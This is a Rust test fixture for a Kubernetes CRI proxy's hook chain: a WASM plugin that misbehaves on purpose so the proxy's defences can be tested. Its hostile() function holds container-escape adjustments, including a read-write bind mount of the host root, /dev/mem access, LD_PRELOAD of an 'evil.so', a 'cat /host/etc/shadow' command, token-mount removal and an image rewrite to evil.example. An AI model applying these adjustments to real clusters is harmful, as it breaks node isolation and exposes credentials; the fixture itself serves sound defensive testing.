//! Test fixture for the CRI proxy's hook chain: a runtime hook whose pre-hook misbehaves as the
//! `wasi:config` key `mode` says. `trap` panics, `loop` spins forever, `oom` allocates without
//! bound, `sleep` blocks in a host call for 30 s, `deny-all` denies every call; the hostile
//! adjustments of a hook that takes over the node (see [`hostile`]: `bind`, `dev-mem`,
//! `ld-preload`, `args`, `drop-memory`, `drop-sa-mount`, `rewrite-image`) are asked for as they
//! are named; anything else allows. `events` (names separated by commas
//! or spaces, as in `wit/runtime.wit`: `create-container`, `start-container`…) limits what it
//! subscribes to; unset or empty means every event. The post-hook always returns at once.

wit_bindgen::generate!({
    path: "../../../wit",
    world: "wasmgate:plugin/runtime-hook@0.1.0",
    generate_all,
});

use exports::wasmgate::plugin::hook::Guest;
use wasmgate::plugin::cri_types::{
    Adjustment, Decision, Device, Event, Mount, Outcome, Request, Resources,
};

struct Hook;

const ALL: [(&str, Event); 9] = [
    ("run-pod", Event::RunPod),
    ("stop-pod", Event::StopPod),
    ("remove-pod", Event::RemovePod),
    ("create-container", Event::CreateContainer),
    ("start-container", Event::StartContainer),
    ("update-container", Event::UpdateContainer),
    ("stop-container", Event::StopContainer),
    ("remove-container", Event::RemoveContainer),
    ("pull-image", Event::PullImage),
];

fn key(name: &str) -> String {
    wasi::config::store::get(name)
        .ok()
        .flatten()
        .unwrap_or_default()
}

impl Guest for Hook {
    fn subscriptions() -> Vec<Event> {
        let wanted = key("events");
        let names: Vec<&str> = wanted
            .split(|c: char| c == ',' || c.is_whitespace())
            .filter(|s| !s.is_empty())
            .collect();
        ALL.iter()
            .filter(|(n, _)| names.is_empty() || names.contains(n))
            .map(|(_, e)| *e)
            .collect()
    }

    fn pre(req: Request) -> Decision {
        let param = |name: &str| from_request(&req, name).unwrap_or_else(|| key(name));
        let mode = match key("mode").as_str() {
            "from-request" => param("mode"),
            mode => mode.to_string(),
        };
        if let Some(a) = hostile(&mode, &req, param) {
            return Decision::Adjust(a);
        }
        match key("mode").as_str() {
            "trap" => panic!("hook-misbehave asked to trap"),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            // Blocks in a host call (a clock poll), where no epoch reaches it.
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(30));
                Decision::Allow
            }
            "deny-all" => Decision::Deny("hook-misbehave denies everything".to_string()),
            _ => Decision::Allow,
        }
    }

    fn post(_req: Request, _outcome: Outcome) {}
}

/// The service account's token, which kubelet mounts into every pod that has one.
const SA_MOUNT: &str = "/var/run/secrets/kubernetes.io/serviceaccount";

/// Mode `from-request` takes the mode, and every key a hostile mode reads, from the request's
/// annotation `misbehave.wasmgate.io/<key>` (the container's, or the image request's), so that
/// one hook misbehaves differently call by call.
fn from_request(req: &Request, name: &str) -> Option<String> {
    let annotations = match req {
        Request::CreateContainer((_, c)) | Request::UpdateContainer((_, c)) => &c.annotations,
        Request::PullImage(i) => &i.annotations,
        _ => return None,
    };
    let wanted = format!("misbehave.wasmgate.io/{name}");
    annotations
        .iter()
        .find(|(k, _)| *k == wanted)
        .map(|(_, v)| v.clone())
}

/// An adjustment that would take over the node or the workload, if `mode` names one; `param`
/// reads its keys:
/// - `bind`: bind-mounts host path `host-path` (default `/`) at `/host`, read-write unless
///   `readonly` is `true`;
/// - `dev-mem`: adds `/dev/mem` with `rwm`;
/// - `ld-preload`: sets `LD_PRELOAD=/host/evil.so`;
/// - `args`: replaces the args with `sh -c` and a command of its own;
/// - `drop-memory`: the request's resources with the memory limit removed;
/// - `drop-sa-mount`: removes the service account's token mount;
/// - `rewrite-image`: moves the image to `image` (default `evil.example/busybox:latest`).
fn hostile(mode: &str, req: &Request, key: impl Fn(&str) -> String) -> Option<Adjustment> {
    let mut a = Adjustment {
        annotations: vec![],
        remove_annotations: vec![],
        labels: vec![],
        remove_labels: vec![],
        env: vec![],
        remove_env: vec![],
        mounts: vec![],
        remove_mounts: vec![],
        devices: vec![],
        remove_devices: vec![],
        resources: None,
        args: None,
        image: None,
    };
    let or = |k: &str, default: &str| {
        Some(key(k))
            .filter(|v| !v.is_empty())
            .unwrap_or(default.into())
    };
    match mode {
        "bind" => a.mounts.push(Mount {
            container_path: "/host".into(),
            host_path: or("host-path", "/"),
            readonly: key("readonly") == "true",
        }),
        "dev-mem" => a.devices.push(Device {
            container_path: "/dev/mem".into(),
            host_path: "/dev/mem".into(),
            permissions: "rwm".into(),
        }),
        "ld-preload" => a.env.push(("LD_PRELOAD".into(), "/host/evil.so".into())),
        "args" => {
            a.args = Some(vec![
                "sh".into(),
                "-c".into(),
                "cat /host/etc/shadow".into(),
            ])
        }
        "drop-memory" => {
            let was = match req {
                Request::CreateContainer((_, c)) | Request::UpdateContainer((_, c)) => {
                    c.resources.clone()
                }
                _ => None,
            };
            a.resources = Some(Resources {
                memory_limit_bytes: 0,
                ..was.unwrap_or(Resources {
                    cpu_period: 0,
                    cpu_quota: 0,
                    cpu_shares: 0,
                    memory_limit_bytes: 0,
                    cpuset_cpus: String::new(),
                    cpuset_mems: String::new(),
                })
            });
        }
        "drop-sa-mount" => a.remove_mounts.push(SA_MOUNT.into()),
        "rewrite-image" => a.image = Some(or("image", "evil.example/busybox:latest")),
        _ => return None,
    }
    Some(a)
}

export!(Hook);
